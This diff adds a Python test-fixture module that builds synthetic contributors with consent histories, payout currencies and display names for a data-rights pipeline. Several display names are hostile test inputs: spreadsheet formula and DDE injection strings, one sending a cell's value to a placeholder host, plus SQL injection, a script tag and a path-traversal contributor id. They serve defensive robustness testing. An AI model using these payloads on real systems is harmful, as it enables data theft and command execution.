@@ -1,0 +1,183 @@
+"""Contributors: who they are, what they are paid in, and what they consented to and when."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from datetime import datetime
+
+from pipelines.demo.roles.role import ConsentEvent, utc
+from schemas.rights import Purpose
+
+_AS_OF_LAST_MOMENT = utc("2026-06-30T23:59:59.999999")
+_GIVEN_AT = utc("2021-03-01T09:00:00")
+
+
+def _per_purpose(
+    purposes: tuple[Purpose, ...], value: str, given_at: datetime
+) -> tuple[ConsentEvent, ...]:
+    return tuple(ConsentEvent(value, given_at, purpose) for purpose in purposes)
+
+
+_ALL_BUT_INFERENCE = tuple(p for p in Purpose if p is not Purpose.INFERENCE)
+_ALL_BUT_GENERATIVE = tuple(p for p in Purpose if p is not Purpose.TRAIN_GEN)
+
+# Every one of these allows everything at the end of as_of.
+CONSENTING_HISTORIES: dict[str, tuple[ConsentEvent, ...]] = {
+    "plain": (ConsentEvent("allow", _GIVEN_AT),),
+    "each_purpose": _per_purpose(tuple(Purpose), "allow", _GIVEN_AT),
+    "given_again": (
+        ConsentEvent("allow", _GIVEN_AT),
+        ConsentEvent("deny", utc("2024-01-10T10:00:00")),
+        ConsentEvent("allow", utc("2025-01-10T10:00:00")),
+    ),
+    "denied_next_day": (
+        ConsentEvent("allow", _GIVEN_AT),
+        ConsentEvent("deny", utc("2026-07-01T00:00:00")),
+    ),
+    "last_moment": (ConsentEvent("deny", _GIVEN_AT), ConsentEvent("allow", _AS_OF_LAST_MOMENT)),
+    "wide_after_narrow": (
+        ConsentEvent("deny", _GIVEN_AT, Purpose.TRAIN_GEN),
+        ConsentEvent("allow", utc("2024-09-09T09:09:09")),
+    ),
+    "conditional_then_settled": (
+        ConsentEvent("conditional", _GIVEN_AT),
+        ConsentEvent("allow", utc("2023-02-02T00:00:00")),
+    ),
+}
+
+# Histories without signed agreements.
+UNSIGNED_HISTORIES = frozenset({"unsigned"})
+# Roles name these; the reasons they cause stand with the roles.
+OTHER_HISTORIES: dict[str, tuple[ConsentEvent, ...]] = {
+    # Their yes names no agreement.
+    "unsigned": (ConsentEvent("allow", _GIVEN_AT),),
+    "missing": (),
+    "denied": (ConsentEvent("deny", _GIVEN_AT),),
+    "withdrawn": (
+        ConsentEvent("allow", _GIVEN_AT),
+        ConsentEvent("deny", utc("2024-03-01T12:00:00")),
+    ),
+    "conditional": (
+        ConsentEvent("allow", _GIVEN_AT),
+        ConsentEvent("conditional", utc("2025-03-01T12:00:00")),
+    ),
+    "after": (ConsentEvent("allow", utc("2026-07-01T00:00:00")),),
+    "tie_conditional": (ConsentEvent("allow", _GIVEN_AT), ConsentEvent("conditional", _GIVEN_AT)),
+    "tie_unknown": (ConsentEvent("allow", _GIVEN_AT), ConsentEvent("unknown", _GIVEN_AT)),
+    "no_inference": _per_purpose(_ALL_BUT_INFERENCE, "allow", _GIVEN_AT),
+    "inference_denied": (
+        ConsentEvent("allow", _GIVEN_AT),
+        ConsentEvent("deny", utc("2025-11-01T00:00:00"), Purpose.INFERENCE),
+    ),
+    "not_generative": (
+        *_per_purpose(_ALL_BUT_GENERATIVE, "allow", _GIVEN_AT),
+        ConsentEvent("deny", _GIVEN_AT, Purpose.TRAIN_GEN),
+    ),
+    "generative_withdrawn": (
+        ConsentEvent("allow", _GIVEN_AT),
+        ConsentEvent("deny", utc("2025-04-04T04:04:04"), Purpose.TRAIN_GEN),
+    ),
+}
+
+# In no table, and without a consent.
+UNLISTED_ID = "c-unlisted"
+
+_COUNTRY_CURRENCIES = (
+    ("US", "USD"),
+    ("DE", "EUR"),
+    ("JP", "JPY"),
+    ("GB", "GBP"),
+    ("NO", "NOK"),
+    ("IN", "INR"),
+    ("FR", "EUR"),
+    ("KW", "KWD"),
+    ("BR", "BRL"),
+    ("KR", "KRW"),
+    (None, "USD"),
+    ("CL", "CLP"),
+)
+_DISPLAY_NAMES = (
+    "Ada Okafor",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"open me")',
+    "Søren Ångström",
+    "+1 (555) 0100",
+    "山田 花子",
+    "@SUM(1+1)*cmd",
+    "O'Brien; DROP TABLE contributors;--",
+    "-2+3+cmd|' /C calc'!A0",
+    "Line\nBreak",
+    "‮desrever",
+    '<script>alert("name")</script>',
+    'José, "Pepe"\tDíaz',
+    "N" * 400,
+    "",
+)
+# A statement is a file named after its contributor, so this id tries to leave the folder.
+HOSTILE_CONTRIBUTOR_ID = "../../=cmd|' /C calc'!A0"
+
+
+@dataclass(frozen=True)
+class Contributor:
+    """One row of `contributors`, with the history that its consents follow."""
+
+    contributor_id: str
+    display_name: str | None
+    country: str | None
+    currency: str
+    payee_ref: str
+    history: str
+
+
+@dataclass(frozen=True)
+class ContributorRoster:
+    """The contributors of a library, by what can be asked of them."""
+
+    contributors: tuple[Contributor, ...]
+    consenting: tuple[str, ...]
+    by_history: dict[str, tuple[str, ...]]
+
+    def pick_author(self, history: str, rotation: int) -> str:
+        """A contributor id with such a history; `rotation` spreads the work over them."""
+        if history == "unlisted":
+            return UNLISTED_ID
+        pool = self.consenting if history == "good" else self.by_history[history]
+        return pool[rotation % len(pool)]
+
+
+def make_roster(assets: int) -> ContributorRoster:
+    """Contributors for a library of that many assets; at least 32."""
+    consenting_names = tuple(CONSENTING_HISTORIES)
+    contributors: list[Contributor] = []
+    for number in range(max(21, assets // 15)):
+        hostile = number == 3
+        contributor_id = HOSTILE_CONTRIBUTOR_ID if hostile else f"c-{number:04d}"
+        contributors.append(
+            _make_contributor(
+                contributor_id, number, consenting_names[number % len(consenting_names)]
+            )
+        )
+    consenting = tuple(contributor.contributor_id for contributor in contributors)
+    for number, history in enumerate(OTHER_HISTORIES, start=len(contributors)):
+        contributors.append(_make_contributor(f"c-{history.replace('_', '-')}", number, history))
+    by_history = {
+        name: tuple(p.contributor_id for p in contributors if p.history == name)
+        for name in (*CONSENTING_HISTORIES, *OTHER_HISTORIES)
+    }
+    return ContributorRoster(tuple(contributors), consenting, by_history)
+
+
+def history_events(history: str) -> tuple[ConsentEvent, ...]:
+    """The contributor-wide consent events of a history, in no order that matters."""
+    return (
+        CONSENTING_HISTORIES[history]
+        if history in CONSENTING_HISTORIES
+        else OTHER_HISTORIES[history]
+    )
+
+
+def _make_contributor(contributor_id: str, number: int, history: str) -> Contributor:
+    country, currency = _COUNTRY_CURRENCIES[number % len(_COUNTRY_CURRENCIES)]
+    name = _DISPLAY_NAMES[number] if number < len(_DISPLAY_NAMES) else f"Contributor {number}"
+    return Contributor(
+        contributor_id, name or None, country, currency, f"payee-{number:05d}", history
+    )
